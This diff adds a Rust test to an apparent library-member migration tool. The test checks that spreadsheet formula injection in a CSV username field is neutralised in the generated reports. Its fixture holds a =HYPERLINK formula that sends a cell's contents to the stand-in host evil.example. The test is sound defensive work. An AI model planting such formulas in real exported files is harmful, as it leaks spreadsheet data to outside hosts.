@@ -351,6 +351,42 @@ async fn json_lines_exports_plan_like_csv() {
 }
 
 #[tokio::test]
+async fn a_cell_a_spreadsheet_would_run_as_a_formula_is_reported_as_text() {
+    let app = spawn_app().await;
+    libraries(&app).await;
+    let mut file = tempfile::Builder::new().suffix(".csv").tempfile().unwrap();
+    write!(
+        file,
+        "library_code,card_number,branch,username,password_hash,email,name,birth_date,subscription_type,valid_until,last_login\n\
+         DRE01,20000000000001,5280,\"=HYPERLINK(\"\"https://evil.example/?\"\"&B2,\"\"klik\"\")\",,een@example.nl,Een Lid,1980-02-01,VOLWASSEN,2027-05-31,2024-01-01\n\
+         DRE01,20000000000002,5280,-jan_,,,Twee Lid,1981-03-02,VOLWASSEN,2027-05-31,2024-06-01\n"
+    )
+    .unwrap();
+    file.flush().unwrap();
+    let files = vec![file.path().to_owned()];
+    let reports = tempfile::tempdir().unwrap();
+
+    let (plan, catalogue) = migration::plan(&app.store, &files).await.unwrap();
+    migration::report(&plan, &catalogue, &files, reports.path()).unwrap();
+
+    assert_eq!(
+        read_csv(reports.path().join("renamed.csv")),
+        vec![vec![
+            "DRE01",
+            "20000000000001",
+            "'=HYPERLINK(\"https://evil.example/?\"&B2,\"klik\")",
+            "20000000000001",
+            "not_allowed"
+        ]]
+    );
+    assert_eq!(
+        read_csv(reports.path().join("no_email.csv")),
+        vec![vec!["DRE01", "20000000000002", "'-jan_", "missing"]],
+        "a username may start with - or @; the report shows it as text"
+    );
+}
+
+#[tokio::test]
 async fn a_card_number_given_twice_at_a_library_is_reported_and_the_first_row_imported() {
     let app = spawn_app().await;
     libraries(&app).await;
